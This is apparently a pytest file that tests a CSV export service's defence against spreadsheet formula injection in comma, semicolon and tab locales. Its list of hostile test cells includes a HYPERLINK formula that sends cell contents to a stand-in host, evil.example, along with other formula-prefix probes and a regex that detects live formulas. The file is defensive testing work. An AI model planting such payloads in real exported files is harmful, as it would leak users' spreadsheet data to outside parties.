"""A CSV export carries no live formula however a spreadsheet splits it: by commas (RFC 4180), by semicolons (Excel
in much of Europe, which ignores the commas), by tabs (import dialogs) or at any line break."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest

from core.services.exports import ExportColumn, export, safe_text, to_csv

TODAY = dt.date(2026, 11, 27)
HOSTILE = [
    'x;=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "a,=1+1",
    "Health; +SUM(A1:A9)",
    "Police;-2+3",
    "note;@cmd",
    'quoted;"=1+1"',
    "spaced;  =1+1",
    "tabbed\t=1+1",
    "two lines\n=1+1",
    "two lines\r\n-1+1",
    'close;"",=1+1;"',
    "=1+1;=2+2,=3+3",
    " =1+1",
]
# What a reader that strips blanks, quotes and control characters from a cell's start could still run.
FORMULA = re.compile(r'^[\s"\x00]*[=+\-@]')
COLUMNS = [ExportColumn("First", lambda r: r[0]), ExportColumn("Second", lambda r: r[1])]


def _fields_as_read(data: str) -> dict[str, list[str]]:
    """Every cell each kind of reader would make of the file."""
    lines = data.split("\r\n")
    return {
        "comma (RFC 4180)": [f for row in csv.reader(io.StringIO(data)) for f in row],
        "semicolon, quote-aware": [f for row in csv.reader(io.StringIO(data), delimiter=";") for f in row],
        "semicolon, quotes ignored": [f for line in lines for f in line.split(";")],
        "tab, quote-aware": [f for row in csv.reader(io.StringIO(data), delimiter="\t") for f in row],
        "any separator or line break, quotes ignored": re.split(r"[,;\t\r\n]", data),
    }


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_cell_with_a_formula_after_a_separator_is_no_formula_in_any_locale(db, hostile):
    # The hostile cell both first on its line (where a quote-aware reader keeps it whole) and after another cell.
    rows = [(hostile, "Health"), ("Health", hostile)]
    data = export(db, user_id=None, name="t", columns=COLUMNS, rows=rows, fmt="csv", today=TODAY).data
    text = data.decode("utf-8").removeprefix("\ufeff")
    for reader, fields in _fields_as_read(text).items():
        live = [f for f in fields if FORMULA.match(f)]
        assert not live, (reader, live)
    # Read as it was written (RFC 4180), each cell is one cell and says what was stored, with apostrophes only.
    assert list(csv.reader(io.StringIO(text))) == [
        ["First", "Second"],
        [safe_text(hostile), "Health"],
        ["Health", safe_text(hostile)],
    ]
    assert safe_text(hostile).replace("'", "") == hostile


def test_ordinary_cells_keep_their_bytes_and_a_cell_with_a_semicolon_is_quoted():
    cells = [
        ["Team", "Agencies", "Notes", "Count", "Due"],
        ["Health", "Police, Health", 'He said "no"', -3, dt.date(2026, 1, 2)],
        ["Early help", "Police; Health", "x - y", 2.5, None],
    ]
    assert to_csv(cells) == (
        "\ufeffTeam,Agencies,Notes,Count,Due\r\n"
        'Health,"Police, Health","He said ""no""",-3,2026-01-02\r\n'
        'Early help,"Police; Health",x - y,2.5,\r\n'
    ).encode("utf-8")


def test_text_made_safe_is_not_changed_again_and_ordinary_text_not_at_all():
    for text in HOSTILE:
        assert safe_text(safe_text(text)) == safe_text(text)
    for text in ["Police, Health", "a;b", "1-2", "e-mail", "x - y", "Q1; Q2", ""]:
        assert safe_text(text) == text
